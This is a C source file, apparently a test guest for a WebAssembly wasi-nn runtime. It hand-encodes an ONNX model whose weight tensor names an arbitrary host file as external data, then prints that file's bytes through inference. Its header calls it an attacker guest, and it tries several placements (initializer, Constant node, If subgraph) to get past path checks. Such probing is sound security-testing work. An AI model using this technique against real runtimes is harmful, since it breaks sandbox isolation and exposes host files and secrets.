// An attacker guest: it builds, in memory, an ONNX model y = x + W whose
// W (f32[4]) is "external data" at a host path of its choice, loads it,
// computes with x = 0 and prints y's bytes, which would be the host file's.
// Modes (argv[1]):
//   load LOCATION [init|const|subgraph] [ENCODING]
//       W as a graph initializer (default), as the value of a Constant
//       node, or inside an If node's then_branch; ENCODING a number (onnx 1)
//   named NAME   load_by_name a preloaded y = x + W model, compute, print y
// Prints "load=E", then "y=<32 hex digits>" when the load succeeded.
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "wasi_nn.h"

typedef struct {
  uint8_t* p;
  uint32_t n;
} buf;

static void put(buf* b, const void* d, uint32_t n) {
  b->p = realloc(b->p, b->n + n);
  memcpy(b->p + b->n, d, n);
  b->n += n;
}
static void varint(buf* b, uint64_t v) {
  do {
    uint8_t c = (uint8_t)(v & 0x7F);
    v >>= 7;
    if (v) c |= 0x80;
    put(b, &c, 1);
  } while (v);
}
static void f_varint(buf* b, uint32_t field, uint64_t v) {
  varint(b, (uint64_t)field << 3);
  varint(b, v);
}
static void f_bytes(buf* b, uint32_t field, const void* d, uint32_t n) {
  varint(b, (uint64_t)field << 3 | 2);
  varint(b, n);
  put(b, d, n);
}
static void f_str(buf* b, uint32_t field, const char* s) { f_bytes(b, field, s, (uint32_t)strlen(s)); }
static void f_msg(buf* b, uint32_t field, buf* m) {
  f_bytes(b, field, m->p, m->n);
  free(m->p);
  *m = (buf){0, 0};
}

// TensorProto W: dims [4], FLOAT, external data {location, length 16}, data_location EXTERNAL.
static void external_w(buf* t, const char* location) {
  buf e = {0};
  f_varint(t, 1, 4);
  f_varint(t, 2, 1);
  f_str(t, 8, "W");
  f_str(&e, 1, "location");
  f_str(&e, 2, location);
  f_msg(t, 13, &e);
  f_str(&e, 1, "length");
  f_str(&e, 2, "16");
  f_msg(t, 13, &e);
  f_varint(t, 14, 1);
}

// ValueInfoProto name: f32[4].
static void value_info(buf* v, const char* name) {
  buf dim = {0}, shape = {0}, tt = {0}, type = {0};
  f_str(v, 1, name);
  f_varint(&dim, 1, 4);
  f_msg(&shape, 1, &dim);
  f_varint(&tt, 1, 1);
  f_msg(&tt, 2, &shape);
  f_msg(&type, 1, &tt);
  f_msg(v, 2, &type);
}

// NodeProto Constant -> "W" with attribute value = the external tensor.
static void constant_node(buf* n, const char* location) {
  buf a = {0}, t = {0};
  f_str(n, 2, "W");
  f_str(n, 3, "w");
  f_str(n, 4, "Constant");
  f_str(&a, 1, "value");
  external_w(&t, location);
  f_msg(&a, 5, &t);
  f_varint(&a, 20, 4);  // AttributeType TENSOR
  f_msg(n, 5, &a);
}

static buf model(const char* location, const char* where) {
  buf g = {0}, n = {0}, t = {0}, v = {0}, m = {0}, op = {0};
  if (!strcmp(where, "const")) {
    constant_node(&n, location);
    f_msg(&g, 1, &n);
  } else if (!strcmp(where, "subgraph")) {
    // If(cond) with then_branch { Constant W }, else_branch the same: both subgraphs carry the reference.
    buf sub = {0}, a = {0}, c = {0}, node_if = {0};
    f_str(&c, 8, "cond");
    f_varint(&c, 2, 9);  // BOOL
    f_bytes(&c, 9, "\1", 1);
    f_msg(&g, 5, &c);
    for (int i = 0; i < 2; ++i) {
      constant_node(&n, location);
      f_msg(&sub, 1, &n);
      f_str(&sub, 2, i ? "else" : "then");
      value_info(&v, "W");
      f_msg(&sub, 12, &v);
      f_str(&a, 1, i ? "else_branch" : "then_branch");
      f_msg(&a, 6, &sub);
      f_varint(&a, 20, 5);  // GRAPH
      f_msg(&node_if, 5, &a);
    }
    f_str(&node_if, 1, "cond");
    f_str(&node_if, 2, "W");
    f_str(&node_if, 4, "If");
    f_msg(&g, 1, &node_if);
  } else {
    external_w(&t, location);
    f_msg(&g, 5, &t);
  }
  f_str(&n, 1, "x");
  f_str(&n, 1, "W");
  f_str(&n, 2, "y");
  f_str(&n, 4, "Add");
  f_msg(&g, 1, &n);
  f_str(&g, 2, "steal");
  value_info(&v, "x");
  f_msg(&g, 11, &v);
  value_info(&v, "y");
  f_msg(&g, 12, &v);
  f_varint(&m, 1, 8);
  f_msg(&m, 7, &g);
  f_str(&op, 1, "");
  f_varint(&op, 2, 13);
  f_msg(&m, 8, &op);
  return m;
}

static void run(graph g) {
  graph_execution_context ctx;
  static const uint32_t dims[1] = {4};
  static const float zero[4] = {0, 0, 0, 0};
  uint8_t y[16];
  uint32_t n = 0;
  tensor x = {dims, 1, WASI_NN_TYPE_F32, (const uint8_t*)zero, sizeof zero};
  nn_errno e = wasi_nn_init_execution_context(g, &ctx);
  if (!e) e = wasi_nn_set_input(ctx, 0, &x);
  if (!e) e = wasi_nn_compute(ctx);
  if (!e) e = wasi_nn_get_output(ctx, 0, y, sizeof y, &n);
  if (e) {
    printf("run=%u\n", (unsigned)e);
    return;
  }
  printf("y=");
  for (uint32_t i = 0; i < n; ++i) printf("%02x", y[i]);
  printf("\n");
}

int main(int argc, char** argv) {
  graph g;
  if (argc >= 3 && !strcmp(argv[1], "load")) {
    buf m = model(argv[2], argc > 3 ? argv[3] : "init");
    graph_builder b = {m.p, m.n};
    nn_errno e =
        wasi_nn_load(&b, 1, argc > 4 ? (uint32_t)atoi(argv[4]) : WASI_NN_ENCODING_ONNX, WASI_NN_TARGET_CPU, &g);
    printf("load=%u\n", (unsigned)e);
    if (!e) run(g);
    return 0;
  }
  if (argc >= 3 && !strcmp(argv[1], "named")) {
    nn_errno e = wasi_nn_load_by_name(argv[2], (uint32_t)strlen(argv[2]), &g);
    printf("load=%u\n", (unsigned)e);
    if (!e) run(g);
    return 0;
  }
  printf("usage: steal load LOCATION [init|const|subgraph] [ENCODING] | steal named NAME\n");
  return 2;
}
